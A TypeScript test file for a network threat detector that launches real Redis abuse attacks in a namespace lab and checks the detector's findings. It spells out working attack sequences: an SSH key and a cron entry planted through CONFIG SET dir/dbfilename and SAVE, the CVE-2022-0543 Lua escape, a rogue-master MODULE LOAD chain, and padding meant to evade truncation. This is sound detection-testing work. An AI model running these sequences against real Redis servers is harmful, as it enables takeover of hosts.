/**
 * Redis turned against its host, for real: Debian's redis-server (7.0, run as an exposed instance is: no password,
 * protected mode off, protected configs and the module command allowed) in a "node" namespace and redis-cli in a
 * "pod" namespace, one connection per attack. An SSH key written into `.ssh/authorized_keys` through the dump (the
 * file is really written, under the test's directory) by redis-cli reading commands from stdin: it asks for
 * COMMAND DOCS first, whose 170 KB answer runs past the replies redis-abuse reads, so that attack is judged as sent.
 * The others, by redis-cli with one command or with `--pipe` (RESP written at once), are judged with the server's
 * answers: a Lua sandbox escape (CVE-2022-0543, which Redis 7 refuses), protected mode turned off, the rogue-master
 * chain (REPLICAOF, then MODULE LOAD, refused: no such module), a cron file written through the dump by a pipeline
 * that asks for INFO first (its 5 KB answer comes before the attack's), the same attack by an ACL user without the
 * rights (NOPERM), and by anyone against a second server left in protected mode (DENIED). Captured with tcpdump as
 * the tap captures, read by our engine and, side by side, by ndpiReader.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ThreatFinding } from '#core/finding.ts';
import { inspectFile } from '#sidecar/engine/inspect-file.ts';
import { createThreatRunner } from '#sidecar/threats/runner.ts';
import { createKernelLab, type KernelLab } from '#test/helpers/kernel-lab.ts';
import { ndpiAvailable, ndpiReport, parseNdpiFlows } from '#test/helpers/ndpi-reader.ts';
import { netnsUnavailable, waitForListen } from '#test/helpers/netns.ts';
import { threatsBy } from '#test/helpers/split-findings.ts';

const unavailable =
  netnsUnavailable(['tcpdump', 'ss', 'redis-server', 'redis-cli']) ??
  (ndpiAvailable() ? undefined : 'ndpiReader is not installed (apt-get install libndpi-bin)');

const node = '10.47.0.1';
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMeshwardTestKeyNotReal attacker@evil';
/** Commands as RESP (redis.io/docs/reference/protocol-spec): arrays of bulk strings, for `redis-cli --pipe`. */
const resp = (...commands: string[][]): string =>
  commands
    .map((args) => `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`)
    .join('');

describe.skipIf(unavailable !== undefined)(
  `Redis turned against its host, against nDPI${unavailable === undefined ? '' : ` (skipped: ${unavailable})`}`,
  () => {
    let lab: KernelLab | undefined;
    const dir = mkdtempSync(join(tmpdir(), 'meshward-redis-'));
    const ssh = join(dir, '.ssh');
    const cron = join(dir, 'cron');
    let found: ThreatFinding[] = [];
    let ndpiText = '';
    const replies: string[] = [];

    afterAll(() => {
      lab?.destroy();
      rmSync(dir, { recursive: true, force: true });
    });

    /** One connection: redis-cli with `options`, `input` on its stdin; its output (an exit status of 1 included). */
    const cli = (options: string[], input = '') => {
      try {
        replies.push(lab?.clientNs.exec('redis-cli', ['-h', node, ...options], { input }) ?? '');
      } catch (error) {
        replies.push(String((error as { stdout?: string }).stdout ?? ''));
      }
    };

    beforeAll(async () => {
      mkdirSync(ssh);
      mkdirSync(cron);
      mkdirSync(join(dir, 'protected'));
      lab = createKernelLab({ prefix: 'mwr', server: node, client: '10.47.0.2' });
      // Segments of one MSS, as on a wire: the veth would pass the server's writes whole, past tcpdump's 4 KiB snap.
      lab.serverNs.exec('ip', ['link', 'set', 'dev', lab.serverDev, 'gso_max_segs', '1']);
      lab.serverNs.spawn('redis-server', [
        ...['--bind', node, '--port', '6379', '--dir', dir, '--save', '', '--appendonly', 'no'],
        ...['--protected-mode', 'no', '--enable-protected-configs', 'yes', '--enable-module-command', 'yes'],
      ]);
      // Redis's defaults: no bind and no password, so protected mode answers other hosts DENIED.
      lab.serverNs.spawn('redis-server', [
        ...['--port', '6380', '--dir', join(dir, 'protected'), '--save', '', '--appendonly', 'no'],
      ]);
      await waitForListen(lab.serverNs, 6379);
      await waitForListen(lab.serverNs, 6380);
      const pcap = join(dir, 'redis.pcap');
      const stop = await lab.capture(pcap, 'tcp', lab.serverDev);
      const lines = (...commands: string[]) => `${commands.join('\n')}\n`;
      cli(
        ['-p', '6379'],
        lines(
          `SET pwn "\\n\\n${key}\\n\\n"`,
          `CONFIG SET dir ${ssh}`,
          'CONFIG SET dbfilename authorized_keys',
          'SAVE',
        ),
      );
      cli([
        ...['-p', '6379', 'EVAL'],
        'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return 1',
        '0',
      ]);
      cli(['-p', '6379', 'CONFIG', 'SET', 'protected-mode', 'no']);
      cli(
        ['-p', '6379', '--pipe'],
        resp(
          ['SLAVEOF', '10.47.0.2', '21000'],
          ['MODULE', 'LOAD', '/tmp/meshward-no-such-exp.so'],
          ['SLAVEOF', 'NO', 'ONE'],
        ),
      );
      cli(
        ['-p', '6379', '--pipe'],
        resp(
          ['SET', 'pwn', `\n\n* * * * * ${key}\n\n`],
          ['INFO'],
          ['CONFIG', 'SET', 'dir', cron],
          ['CONFIG', 'SET', 'dbfilename', 'root'],
          ['BGSAVE'],
        ),
      );
      cli(['-p', '6379', 'ACL', 'SETUSER', 'app', 'on', '>apppw', '~*', '+@all', '-@admin', '-@dangerous']);
      cli(
        ['-p', '6379', '--user', 'app', '--pass', 'apppw', '--no-auth-warning', '--pipe'],
        resp(['CONFIG', 'SET', 'dir', ssh], ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'], ['SAVE']),
      );
      cli(['-p', '6380', 'CONFIG', 'SET', 'dir', '/var/www/html']);
      // Padded past the 1 KiB an argument was cut at (ADR 36): a Lua comment before the escape, `/.` before the
      // directory (chdir takes it; 3 KB, past one segment).
      cli([
        ...['-p', '6379', 'EVAL'],
        `--[[${'padding '.repeat(400)}]] local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return 1`,
        '0',
      ]);
      cli(['-p', '6379', 'CONFIG', 'SET', 'dir', `${'/.'.repeat(1500)}${ssh}`]);
      for (let i = 0; i < 100 && !existsSync(join(cron, 'root')); i++) await sleep(50);
      await stop();
      const { findings } = await inspectFile(pcap, { observers: [createThreatRunner()] });
      found = threatsBy(findings, 'redis-abuse');
      ndpiText = ndpiReport(pcap);
    }, 120_000);

    const told = (text: string) => found.find((f) => f.evidence.includes(text));

    it('the server did what it was told: the SSH key and the cron file are written, the rest refused', () => {
      expect(readFileSync(join(ssh, 'authorized_keys'), 'latin1')).toContain(key);
      expect(readFileSync(join(cron, 'root'), 'latin1')).toContain(key);
      expect(replies[1]).toMatch(/ERR|attempt to call/i);
      // redis-cli --pipe counts the errors: MODULE LOAD's; the ACL user's three NOPERM.
      expect(replies[3]).toMatch(/errors: 1, replies: 3/);
      expect(replies[4]).toMatch(/errors: 0, replies: 5/);
      expect(replies[6]).toMatch(/errors: 3, replies: 3/);
      expect(replies[7]).toMatch(/^DENIED Redis is running in protected mode/);
    });

    it('judges the key written after COMMAND DOCS as sent: its answers lie past the first 8 KiB of replies', () => {
      expect(told('authorized_keys (SAVE)')).toMatchObject({
        severity: 'critical',
        confidence: 0.9,
        evidence: `a client wrote its dump to ${ssh}/authorized_keys (SAVE)`,
      });
    });

    it('reads the answers of a pipeline past a 5 KB INFO answer: the cron file written with BGSAVE, sure', () => {
      expect(told('cron/root')).toMatchObject({
        severity: 'critical',
        confidence: 1,
        evidence: `a client wrote ${cron}/root through its dump (CONFIG SET and BGSAVE succeeded)`,
      });
      expect(told('protected-mode no')).toMatchObject({
        severity: 'high',
        confidence: 0.9,
        evidence: 'a client set protected-mode no (CONFIG SET, succeeded)',
      });
    });

    it('reports refused attempts less surely, naming the refusal: the Lua escape, the module, NOPERM, DENIED', () => {
      expect(told('outside its sandbox')).toMatchObject({
        severity: 'critical',
        confidence: 0.75,
        evidence: 'a client tried Lua that reaches outside its sandbox (EVAL, refused: ERR, CVE-2022-0543)',
      });
      expect(told('the module')).toMatchObject({
        confidence: 0.75,
        evidence:
          'a client tried to load the module /tmp/meshward-no-such-exp.so, after replicating from 10.47.0.2:21000 (MODULE LOAD, refused: ERR)',
      });
      expect(told('NOPERM')).toMatchObject({
        severity: 'critical',
        confidence: 0.65,
        evidence: `a client tried to point its dump at ${ssh}/dump.rdb (CONFIG SET, refused: NOPERM)`,
      });
      expect(told('DENIED')).toMatchObject({
        confidence: 0.65,
        evidence: 'a client tried to point its dump at /var/www/html/dump.rdb (CONFIG SET, refused: DENIED)',
      });
      expect(found).toHaveLength(9);
    });

    it('judges a script and a directory padded past 1 KiB, whole (ADR 36)', () => {
      expect(replies[8]).toMatch(/ERR|attempt to call/i);
      expect(replies[9]).toMatch(/^OK/);
      expect(found.filter((f) => f.evidence.includes('outside its sandbox'))).toHaveLength(2);
      expect(told('/./.')).toMatchObject({ severity: 'critical', confidence: 0.9 });
      expect(told('/./.')?.evidence).toMatch(
        /^a client pointed its dump at \/\.\/\..*\/\.ssh\/dump\.rdb \(CONFIG SET, succeeded\)$/,
      );
    });

    it('nDPI 4.2 names the connections to the open server Redis (by port or by their bytes), not the one protected mode refused, and raises nothing', () => {
      const flows = parseNdpiFlows(ndpiText).filter((f) => [`${node}:6379`, `${node}:6380`].includes(f.b));
      console.log(
        `nDPI on the Redis attacks:\n${flows.map((f) => `${f.a} ${f.b} ${f.app} ${f.confidence} [${f.risks.join(', ')}]`).join('\n')}`,
      );
      const apps = (port: number) => flows.filter((f) => f.b === `${node}:${port}`).map((f) => f.app);
      expect(apps(6379)).toEqual(Array(9).fill('Redis'));
      expect(apps(6380)).toEqual(['Unknown']);
      expect(flows.flatMap((f) => f.risks)).toEqual([]);
    });
  },
);
